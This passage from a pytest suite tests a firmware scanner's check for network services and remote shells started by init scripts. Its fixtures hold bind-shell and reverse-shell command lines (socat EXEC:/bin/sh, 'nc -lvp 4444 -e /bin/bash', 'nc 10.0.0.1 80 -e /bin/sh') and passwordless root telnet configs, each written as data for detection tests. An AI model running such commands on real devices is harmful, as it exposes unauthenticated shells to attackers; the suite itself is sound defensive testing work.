        "/etc/init.d/rcS": (
            "#!/bin/sh\n"
            "xinetd -stayalive -pidfile /var/run/xinetd.pid\n"
            "tcpsvd -vE 0.0.0.0 2121 ftpd -w /srv &\n"
            "udpsvd -vE 0.0.0.0 69 tftpd /srv &\n"
            "socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/sh,pty,stderr &\n"
            "socat TCP:10.0.0.1:80 STDIO\n"
            "/usr/bin/vendord &\n"
            "/etc/init.d/helper.sh\n"
            "/bin/sh /etc/init.d/helper.sh\n"
        ),
        "/etc/init.d/helper.sh": "#!/bin/sh\ntelnetd -p 2300\n",
        "/usr/bin/start_app.sh": "#!/bin/sh\nmkdir -p /var/app\nexec /usr/bin/app --serve\n",
        "/etc/xinetd.conf": "defaults\n{\n\tinstances = 60\n}\nincludedir /etc/xinetd.d\n",
        "/etc/xinetd.d/telnet": (
            "# default: on\nservice telnet\n{\n\tdisable = no\n\tsocket_type = stream\n\twait = no\n"
            "\tuser = root\n\tserver = /usr/sbin/in.telnetd\n}\n"
        ),
        "/etc/xinetd.d/tftp": (
            "service tftp\n{\n\tsocket_type = dgram\n\tprotocol = udp\n\tserver = /usr/sbin/in.tftpd\n"
            "\tserver_args = -s /tftpboot\n\tdisable = yes\n}\n"
        ),
        "/etc/services": "telnet\t\t2323/tcp\n",
    }
    links = {p: "/bin/busybox" for p in ("/bin/sh", "/usr/bin/tcpsvd", "/usr/bin/udpsvd", "/usr/sbin/ftpd",
                                         "/usr/sbin/tftpd", "/usr/sbin/telnetd", "/bin/mkdir")}
    modes = {"/etc/init.d/helper.sh": 0o644}
    result, services = run(tmp_path, files, links, modes=modes)

    telnet = service(services, "in.telnetd")
    assert ports(telnet) == [("tcp", 2323)]  # the image's /etc/services moves telnet
    assert telnet["started_by"] == ["/etc/inittab", "/etc/init.d/rcS", "/etc/xinetd.d/telnet"]
    assert telnet["line"] == 2
    assert not [s for s in services if s["name"] == "in.tftpd"]  # disable = yes

    ftpd = service(services, "ftpd")
    assert ports(ftpd) == [("tcp", 2121)] and ftpd["line"] == 3
    tftpd = service(services, "tftpd")
    assert ports(tftpd) == [("udp", 69)]
    socat = service(services, "socat")
    assert ports(socat) == [("tcp", 5555)] and socat["auth"] == "none"
    vendord = service(services, "vendord")
    assert vendord["class"] == "unknown" and vendord["ports"] == []
    app = service(services, "app")  # exec'd by a script init respawns
    assert app["started_by"] == ["/etc/inittab", "/usr/bin/start_app.sh"] and app["line"] == 3
    assert not [s for s in services if s["name"] == "mkdir"]

    # helper.sh is not executable: run directly it fails; through sh it runs
    helper = service(services, "telnetd")
    assert helper["line"] == 2 and ports(helper) == [("tcp", 2300)]

    assert by_rule(result, "VER-SVC-001") == [
        ("/etc/init.d/helper.sh", 2), ("/etc/init.d/rcS", 3), ("/etc/init.d/rcS", 4), ("/etc/xinetd.d/telnet", 2)]
    assert by_rule(result, "VER-SVC-002") == [("/etc/init.d/rcS", 5)]
    assert by_rule(result, "VER-SVC-004") == []


def test_conditional_start_is_reported_as_such(tmp_path):
    files = {
        "/bin/busybox": ELF,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
        "/etc/init.d/rcS": (
            "#!/bin/sh\n"
            "if [ \"$(nvram get telnet_enable)\" = 1 ]; then\n  telnetd\nfi\n"
            "DEBUG=0\n[ \"$DEBUG\" = 1 ] && httpd -p 81\n"
            "[ -n \"$DEBUG\" ] || exit 0\n"
            "udhcpd\n"
        ),
    }
    links = {p: "/bin/busybox" for p in ("/usr/sbin/telnetd", "/usr/sbin/httpd", "/usr/sbin/udhcpd", "/bin/sh")}
    result, services = run(tmp_path, files, links)
    telnet = service(services, "telnetd")
    assert telnet["conditional"] is True and "could not decide" in telnet["summary"]
    assert not [s for s in services if s["name"] == "httpd"]  # DEBUG is known to be 0
    assert service(services, "udhcpd")["conditional"] is False
    [finding] = [f for f in result if f.rule == "VER-SVC-001"]
    assert finding.line == 3 and "(conditional)" in finding.title


def test_unassigned_variables_are_empty_unless_something_unread_set_them(tmp_path):
    files = {
        "/bin/busybox": ELF,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\n::sysinit:/etc/init.d/rc2\n",
        "/etc/init.d/rcS": "#!/bin/sh\n[ \"$TELNET\" = 1 ] && telnetd -p 2301\n${HTTPD:-httpd} -p 8001\n",
        "/etc/init.d/rc2": "#!/bin/sh\n. /tmp/settings\n[ \"$TELNET\" = 1 ] && telnetd -p 2302\n",
    }
    links = {p: "/bin/busybox" for p in ("/usr/sbin/telnetd", "/usr/sbin/httpd", "/bin/sh")}
    _result, services = run(tmp_path, files, links)
    assert [(s["name"], ports(s), s["conditional"]) for s in services] == [
        ("httpd", [("tcp", 8001)], False), ("telnetd", [("tcp", 2302)], True)]


# -- robustness ---------------------------------------------------------------------------------------------


def test_broken_scripts_are_reported(tmp_path):
    files = {
        "/bin/busybox": ELF,
        "/etc/inittab": "::sysinit:/etc/init.d/rcS\nthis line is not inittab\n",
        "/etc/init.d/rcS": "#!/bin/sh\n/etc/init.d/broken start\ntelnetd\n",
        "/etc/init.d/broken": "#!/bin/sh\nif [ \"$1\" = start ]; then\n  echo \"unterminated\n  httpd -p 81\n",
    }
    links = {"/usr/sbin/telnetd": "/bin/busybox", "/usr/sbin/httpd": "/bin/busybox", "/bin/sh": "/bin/busybox"}
    result, services = run(tmp_path, files, links)
    assert service(services, "telnetd")["line"] == 3
    assert by_rule(result, "VER-SVC-006") == [("/etc/init.d/broken", 2), ("/etc/init.d/broken", 3),
                                              ("/etc/inittab", 2)]


def test_deep_chain_and_loops_terminate(tmp_path):
    files = {"/bin/busybox": ELF, "/etc/inittab": "::sysinit:/etc/init.d/s0\n"}
    for k in range(40):
        files[f"/etc/init.d/s{k}"] = f"#!/bin/sh\n/etc/init.d/s{k + 1}\n/etc/init.d/s0\nf() {{ f; }}\nf\n"
    files["/etc/init.d/s40"] = "#!/bin/sh\ntelnetd\n"
    links = {"/usr/sbin/telnetd": "/bin/busybox"}
    t0 = time.monotonic()
    result, services = run(tmp_path, files, links)
    assert time.monotonic() - t0 < 5
    assert services == []
    assert {f.rule for f in result} == {"VER-SVC-006"}
    assert {f.path for f in result} == {"/etc/init.d/s23"}
    assert all("deeper than" in f.evidence for f in result)


def test_not_applicable_without_boot_files(tmp_path):
    inv = inventory_from({"/etc/config/dropbear": "config dropbear\n", "/usr/bin/x": ELF}, tmp_path)
    with pytest.raises(NotApplicable):
        list(ServicesCheck().run(inv, {}))


def test_helpers():
    assert flag_values(["-lvp", "4444", "-e", "/bin/sh"], ["-p"]) == ["4444"]
    assert flag_values(["-p2323", "--port=99", "--port", "98"], ["-p", "--port"]) == ["2323", "99", "98"]
    assert flag_values(["-P", "/var/run/x.pid", "-p", "22"], ["-p"]) == ["22"]
    assert port_of("0.0.0.0:22") == 22 and port_of("[::]:80") == 80 and port_of(":8080") == 8080
    assert port_of("70000") is None and port_of("") is None
    assert parse_uci("config dropbear\n\toption Port '22'\n\tlist x 'a'\n\tlist x b\n") == [
        {"type": "dropbear", "name": None, "options": {"Port": "22"}, "lists": {"x": ["a", "b"]}, "line": 1}]
    script = shell.parse("a=1; b=\"x\" c\nif true; then\n d &\nfi\ncat <<'  EOF'\nx\n  EOF\ne")
    assert script.errors == []
    assert len(script.body) == 5


class _NoFiles:
    def text(self, path):
        return None

    def strings_of(self, path):
        return []


@pytest.mark.parametrize(("name", "args", "tty", "expected"), [
    ("telnetd", ["-b", "0.0.0.0:2300"], None, ("remote-shell", [("tcp", 2300)], "password", False)),
    ("telnetd", ["-l/bin/ash"], None, ("remote-shell", [("tcp", 23)], "none", True)),
    ("utelnetd", ["-p", "2424", "-l", "/bin/sh", "-d"], None, ("remote-shell", [("tcp", 2424)], "none", True)),
    ("uhttpd", ["-f", "-h", "/www", "-p", "0.0.0.0:80", "-s", "0.0.0.0:443"], None,
     ("listener", [("tcp", 80), ("tcp", 443)], "unknown", False)),
    ("httpd", ["-p", "[::]:8080"], None, ("listener", [("tcp", 8080)], "unknown", False)),
    ("gdbserver", ["--multi", "0.0.0.0:9999"], None, ("debug", [("tcp", 9999)], "none", False)),
    ("snmpd", ["-Lsd", "udp:1161"], None, ("listener", [("udp", 1161)], "password", False)),
    ("ntpd", ["-n", "-p", "pool.ntp.org"], None, ("client", [], "none", False)),
    ("ntpd", ["-n", "-l"], None, ("client", [("udp", 123)], "none", False)),
    ("ftpd", ["-w", "-a", "ftp", "/srv"], None, ("file-transfer", [("tcp", 21)], "none", False)),
    ("nc", ["-lvp", "4444", "-e", "/bin/bash"], None, ("remote-shell", [("tcp", 4444)], "none", True)),
    ("nc", ["-l", "5555"], None, ("listener", [("tcp", 5555)], "none", False)),
    ("nc", ["-ulp", "5353"], None, ("listener", [("udp", 5353)], "none", False)),
    ("ttyd", ["-p", "8000", "bash"], None, ("remote-shell", [("tcp", 8000)], "none", True)),
    ("ttyd", ["-c", "admin:secret", "bash"], None, ("remote-shell", [("tcp", 7681)], "password", False)),
    ("ttyd", ["login"], None, ("remote-shell", [("tcp", 7681)], "password", False)),
    ("agetty", ["--autologin", "root", "ttyS0", "115200"], None, ("getty", [], "none", True)),
    ("getty", ["-L", "ttyS0", "115200"], None, ("getty", [], "password", False)),
    ("login", ["-f", "root"], "ttyS0", ("login", [], "none", True)),
    ("dropbear", ["-F", "-s", "-p", "2222"], None, ("ssh", [("tcp", 2222)], "key", False)),
    ("cwmpd", [], None, ("client", [], "unknown", False)),
    ("cwmpd", ["--port", "7547"], None, ("client", [("tcp", 7547)], "unknown", False)),
    ("adbd", [], None, ("debug", [], "unknown", False)),
])
def test_classify_options(name, args, tty, expected):
    from veracity.checks.boot.daemons import classify
    from veracity.checks.boot.interp import Launch

    launch = Launch(name, f"/usr/sbin/{name}", f"/usr/sbin/{name}", tuple(args), ("/etc/init.d/rcS",), 3, "", "script",
                    daemon=True, tty=tty)
    [svc] = classify(launch, _NoFiles())
    assert (svc.klass, svc.ports, svc.auth, svc.shell_served) == expected


def test_loopback_listeners_are_listed_not_flagged(tmp_path):
    files = {"/bin/busybox": ELF, "/usr/sbin/uhttpd": ELF, "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
             "/etc/init.d/rcS": ("#!/bin/sh\ntelnetd -b 127.0.0.1 -l /bin/sh\nuhttpd -p 127.0.0.1:8080 -h /www\n"
                                 "httpd -p [::1]:81\nhttpd -p 0.0.0.0:82\n")}
    links = {p: "/bin/busybox" for p in ("/usr/sbin/telnetd", "/usr/sbin/httpd", "/bin/sh")}
    result, services = run(tmp_path, files, links)
    assert [(s["name"], ports(s), s.get("bind")) for s in services] == [
        ("telnetd", [("tcp", 23)], "loopback"), ("uhttpd", [("tcp", 8080)], "loopback"),
        ("httpd", [("tcp", 81)], "loopback"), ("httpd", [("tcp", 82)], None)]
    assert "loopback interface only" in services[0]["summary"]
    assert by_rule(result, "VER-SVC-004") == [("/etc/init.d/rcS", 5)]
    assert by_rule(result, "VER-SVC-002") == []


def test_classify_not_services():
    from veracity.checks.boot.daemons import classify
    from veracity.checks.boot.interp import Launch

    def launch(name, args=(), daemon=False, tty=None):
        return Launch(name, f"/bin/{name}", "/bin/busybox", tuple(args), ("/etc/init.d/rcS",), 1, "", "script",
                      daemon=daemon, tty=tty)

    assert classify(launch("nc", ["10.0.0.1", "80", "-e", "/bin/sh"], daemon=True), _NoFiles()) == []  # connects out
    assert classify(launch("sleep", ["5"], daemon=True), _NoFiles()) == []
    assert classify(launch("vendor_tool", ["x"]), _NoFiles()) == []  # foreground, unknown
    assert classify(launch("login"), _NoFiles()) == []  # not on a console
    assert classify(launch("sh", ["-i"]), _NoFiles()) == []  # neither console nor port
    assert classify(launch("socat", ["TCP:1.2.3.4:80", "EXEC:/bin/sh"], daemon=True), _NoFiles()) == []


def test_ssh_blank_passwords_with_empty_account(tmp_path):
    accounts = [{"name": "guest", "uid": 1001, "gid": 100, "shell": "/bin/sh", "home": "/", "password_state": "empty",
                 "source": "/etc/shadow", "login": True, "password_hint": None}]
    files = {"/bin/busybox": ELF, "/usr/sbin/dropbear": ELF, "/etc/inittab": "::sysinit:/etc/init.d/rcS\n",
             "/etc/init.d/rcS": "#!/bin/sh\ndropbear -B -p 22\ndropbear -p 2022\n"}
    result, services = run(tmp_path, files, {"/bin/sh": "busybox"}, accounts=accounts)
    blank = service(services, "dropbear", ports=[{"proto": "tcp", "port": 22}])
    assert blank["auth"] == "none" and blank["credentials"][0]["password_state"] == "empty"
    assert service(services, "dropbear", ports=[{"proto": "tcp", "port": 2022}])["auth"] == "password"
    assert by_rule(result, "VER-SVC-002") == [("/etc/init.d/rcS", 2)]
    assert by_rule(result, "VER-SVC-004") == [("/etc/init.d/rcS", 3)]
    [f] = [f for f in result if f.rule == "VER-SVC-002"]
    assert "blank password" in f.title


def test_catalogue_is_consistent():
    cat = catalogue()
    classes = set(cat.data["classes"])
    for name, entry in cat.daemons.items():
        assert entry["class"] in classes, name
        for spec in entry.get("ports", []):
            port, proto = spec.split("/")
            assert proto in ("tcp", "udp") and 0 < int(port) < 65536, (name, spec)
        assert entry.get("auth", "unknown") in ("none", "password", "key", "unknown"), name
    aliases = [a for e in cat.daemons.values() for a in e.get("aliases", [])]
    assert len(aliases) == len(set(aliases))
    assert not (set(aliases) & set(cat.daemons))
    assert not (cat.not_services & (set(cat.daemons) | set(aliases)))


def test_rules_are_well_formed():
    ids = [r.id for r in ServicesCheck.RULES]
    assert len(ids) == len(set(ids)) and all(i.startswith("VER-SVC-") for i in ids)
    for rule in ServicesCheck.RULES:
        assert rule.references and rule.description


# -- the real images -----------------------------------------------------------------------------------------


@pytest.fixture
def services_only(monkeypatch):
    monkeypatch.setattr(veracity.checks.registry, "CHECKS", (ServicesCheck(),))


def _svc(report):
    return {(s["name"], tuple((p["proto"], p["port"]) for p in s["ports"]), s["tty"]): s for s in report["services"]}


@pytest.mark.corpus
def test_corpus_tplink(run_scan, services_only):
    report = run_scan(corpus("firmware/tplink-mr3020v1-3.17.2.bin"))
    services = _svc(report)
    # /etc/rc.d/rcS: "/usr/bin/httpd &"; the "BETA" telnetd block is dead code: /usr/sbin/telnetd is not in the
    # image (and busybox has no telnetd applet), so [ -x /usr/sbin/telnetd ] is false.
    assert set(services) == {("httpd", (("tcp", 80),), None), ("getty", (), "ttyS0")}
    httpd = services[("httpd", (("tcp", 80),), None)]
    assert httpd["binary"] == "/usr/bin/httpd" and httpd["started_by"] == ["/etc/inittab", "/etc/rc.d/rcS"]
    assert httpd["line"] == 38
    getty = services[("getty", (), "ttyS0")]
    assert getty["auth"] == "password" and getty["args"] == ["ttyS0", "115200"]
    svc = sorted((f["rule"], f["path"], f["line"]) for f in findings(report) if f["rule"].startswith("VER-SVC"))
    assert svc == [("VER-SVC-004", "/etc/rc.d/rcS", 38)]


@pytest.mark.corpus
def test_corpus_broadcom(run_scan, services_only):
    report = run_scan(corpus("firmware/broadcom-bcm63xx-squashfs-v2.bin"))
    services = _svc(report)
    # inittab: "::respawn:-/bin/sh" and "tty2::askfirst:-/bin/sh" (shells without login); the login shell reads
    # /etc/profile, which starts cfm; cfm serves telnet, SSH, web and TFTP itself, as <srvCtrlList> in
    # /etc/default.cfg enables them on the LAN, and starts UPnP (<protocol upnp="enable">). inetd is commented
    # out in rcS, so /etc/inetd.conf (ftp, telnet) is never read; snmp is disabled.
    assert set(services) == {
        ("sh", (), "console"), ("sh", (), "tty2"), ("cfm", (), None),
        ("telnetd", (("tcp", 23),), None), ("sshd", (("tcp", 22),), None), ("httpd", (("tcp", 80),), None),
        ("tftpd", (("udp", 69),), None), ("upnp", (("udp", 1900),), None),
    }
    cfm = services[("cfm", (), None)]
    assert cfm["started_by"] == ["/etc/inittab", "/etc/profile"] and cfm["line"] == 32
    telnet = services[("telnetd", (("tcp", 23),), None)]
    assert telnet["started_by"] == ["/etc/inittab", "/etc/profile", "/etc/default.cfg"] and telnet["line"] == 14
    svc = sorted((f["rule"], f["severity"], f["path"], f["line"], f["title"].split(" ")[0])
                 for f in findings(report) if f["rule"].startswith("VER-SVC"))
    assert svc == [
        ("VER-SVC-001", "high", "/etc/default.cfg", 14, "telnet"),
        ("VER-SVC-001", "high", "/etc/default.cfg", 14, "tftp"),
        ("VER-SVC-004", "low", "/etc/default.cfg", 14, "httpd"),
        ("VER-SVC-004", "low", "/etc/default.cfg", 14, "sshd"),
        ("VER-SVC-004", "medium", "/etc/default.cfg", 30, "upnp"),
        ("VER-SVC-005", "high", "/etc/inittab", 2, "Shell"),
        ("VER-SVC-005", "high", "/etc/inittab", 3, "Shell"),
    ]


@pytest.mark.corpus
def test_corpus_alcatel_overlay(run_scan, services_only):
    # The JFFS2 overlay holds configuration (UCI dropbear and uhttpd) but no boot files: not assessed.
    report = run_scan(corpus("firmware/alcatel-g010s-a-mtd4.jffs2"))
    assert report["services"] == []
    assert [c["status"] for c in report["checks"] if c["id"] == "services"] == ["not-applicable"]
